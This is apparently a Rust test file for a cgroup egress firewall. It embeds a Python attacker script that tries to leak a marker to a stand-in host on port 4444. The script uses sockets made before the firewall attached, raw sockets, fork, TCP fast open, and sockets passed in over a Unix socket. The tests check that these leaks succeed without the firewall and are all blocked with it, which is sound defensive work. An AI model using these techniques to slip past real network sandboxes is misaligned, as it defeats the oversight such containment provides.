//! A way out: a socket belongs for life to the cgroup that it was made in. Each that was made before is used again in
//! every way there is, and one more is handed in from outside.

use std::{net::TcpStream, os::fd::AsFd as _, time::Duration};

use harness::{Canary, Lab, canary::Filter, hosts};

use super::{SOON, Shell, death::wait_for, lab};

/// Nobody else uses it.
const PORT: u16 = 4444;

/// Makes its sockets, waits for `go`, and uses them.
const ATTACKER: &str = r#"
import array, ctypes, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
V4, V6 = ('203.0.113.66', 4444), ('2001:db8:2::66', 4444)
MARK = b'awf-probe-marker'
FAMILIES = [(socket.AF_INET, V4), (socket.AF_INET6, V6)]
def make(kind): return [(socket.socket(family, kind), to) for family, to in FAMILIES]
udp, bound, joined = make(socket.SOCK_DGRAM), make(socket.SOCK_DGRAM), make(socket.SOCK_DGRAM)
tcp, fast, used = make(socket.SOCK_STREAM), make(socket.SOCK_STREAM), make(socket.SOCK_STREAM)
raw = [(socket.socket(f, socket.SOCK_RAW, 253), (to[0], 0)) for f, to in FAMILIES]
for s, _ in bound: s.bind(('', 0))
for s, to in joined: s.connect((to[0], 53))
for s, to in used: s.connect((to[0], 443))
listener = socket.socket(); listener.bind(('', 0)); listener.listen()
open('port', 'w').write(str(listener.getsockname()[1]))
passed = socket.socket(socket.AF_UNIX); passed.connect('passer'); passed.send(b'x')
open('made', 'w').close()
while not os.path.exists('go'): time.sleep(0.01)
def t(what, f):
    try: f(); print('OUT', what)
    except OSError as e: print('no', what, e)
def unconnect(s): libc.connect(s.fileno(), b'\0' * 16, 16)
for s, to in udp: t('sendto', lambda: s.sendto(MARK, to))
for s, to in bound: t('connect and send', lambda: (s.connect(to), s.send(MARK)))
for s, to in joined: t('send', lambda: s.send(MARK)); t('again', lambda: (s.connect(to), s.send(MARK)))
for s, to in joined: t('sendmsg', lambda: s.sendmsg([MARK], [], 0, to))
for s, to in raw: t('raw', lambda: s.sendto(MARK, to))
for s, to in tcp: s.settimeout(3); t('connect', lambda: (s.connect(to), s.send(MARK)))
for s, to in fast: s.settimeout(3); t('fast open', lambda: s.sendto(MARK, socket.MSG_FASTOPEN, to))
for s, to in used:
    s.settimeout(3); t('used', lambda: s.send(MARK))
    unconnect(s); t('used again', lambda: (s.connect(to), s.send(MARK)))
if os.fork() == 0:
    for s, to in udp: t('of a child', lambda: s.sendto(MARK, to))
    os._exit(0)
os.wait()
try: listener.listen(); open('listens', 'w').close()
except OSError as e: print('no listen', e); open('listens', 'w').close()
size = socket.CMSG_SPACE(8)
data, control, _, _ = passed.recvmsg(1, size)
fds = array.array('i'); fds.frombytes(control[0][2])
for fd, (family, to) in zip(fds, FAMILIES):
    s = socket.socket(fileno=fd); t('handed in, sendto', lambda: s.sendto(MARK, to))
    t('handed in, connect', lambda: (s.connect(to), s.send(MARK)))
open('tried', 'w').close()
while not os.path.exists('over'): time.sleep(0.01)
"#;

/// Outside of what is attached: hands sockets of its own to whoever asks.
const PASSER: &str = r#"
import array, os, socket, time
listener = socket.socket(socket.AF_UNIX); listener.bind('passer'); os.chmod('passer', 0o666); listener.listen()
open('passes', 'w').close()
conn, _ = listener.accept(); conn.recv(1)
while not os.path.exists('go'): time.sleep(0.01)
socks = [socket.socket(family, socket.SOCK_DGRAM) for family in (socket.AF_INET, socket.AF_INET6)]
conn.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [s.fileno() for s in socks]))])
while not os.path.exists('tried'): time.sleep(0.01)
"#;

/// What the attacker printed, and whether somebody in the world could dial it.
fn attack(lab: &Lab, canary: &Canary, attach: bool) -> (String, bool) {
    // Root's, who may have raw sockets.
    let (shell, outside) = (Shell::start_as(lab, &lab.bare().as_root()), Shell::start(lab));
    let work = lab.dir().work();
    for (name, text) in [("attacker.py", ATTACKER), ("passer.py", PASSER)] {
        lab.dir().file(name, text);
    }
    let run = |name: &str| format!("cd {} && exec /usr/bin/python3 -u {name}", work.display());
    outside.order(&run("passer.py"));
    wait_for(&work.join("passes"));
    let order = shell.order(&run("attacker.py"));
    wait_for(&work.join("made"));
    let attached = attach.then(|| shell.attach(&["-d", "allowed.test"]));
    lab.dir().file("go", "");
    wait_for(&work.join("listens"));
    let port: u16 = std::fs::read_to_string(work.join("port")).expect("it told").parse().expect("a port");
    let dialled = lab.world().within(|| {
        TcpStream::connect_timeout(&(hosts::MACHINE_V4, port).into(), Duration::from_secs(2)).is_ok()
    });
    wait_for(&work.join("tried"));
    lab.dir().file("over", "");
    shell.process.wait_for_stdout(&format!("done {order}."), SOON);
    canary.settle(lab.machine().as_fd());
    if let Some(run) = attached {
        run.out.reason("old_socket");
        run.detach().ok();
    }
    (std::fs::read_to_string(shell.dir.join(format!("{order}.out"))).expect("it has ended"), dialled)
}

#[test]
fn old_and_passed_sockets_lead_out_without_the_firewall() {
    let lab = lab();
    let canary = Canary::new(&lab);
    let (said, dialled) = attack(&lab, &canary, false);
    assert!(dialled, "it listens: {said}");
    for what in ["sendto", "connect and send", "connect", "used", "raw", "handed in, sendto", "of a child"] {
        assert!(said.contains(&format!("OUT {what}\n")), "{what}: {said}");
    }
    assert!(canary.seen(&Filter::any().port(PORT).ipv4()).len() > 3, "{said}");
    assert!(canary.seen(&Filter::any().port(PORT).ipv6()).len() > 3, "{said}");
}

#[test]
fn old_and_passed_sockets_lead_nowhere_from_behind_it() {
    let lab = lab();
    let canary = Canary::new(&lab);
    let (said, dialled) = attack(&lab, &canary, true);
    assert!(!dialled, "somebody could dial in: {said}");
    let heard = canary.seen(&Filter::any().port(PORT));
    assert!(heard.is_empty(), "{heard:?}\n{said}");
    let marked = canary.seen(&Filter::any().marked(true));
    assert!(marked.is_empty(), "{marked:?}\n{said}");
    assert!(said.contains("no handed in, connect"), "it came to its end: {said}");
}
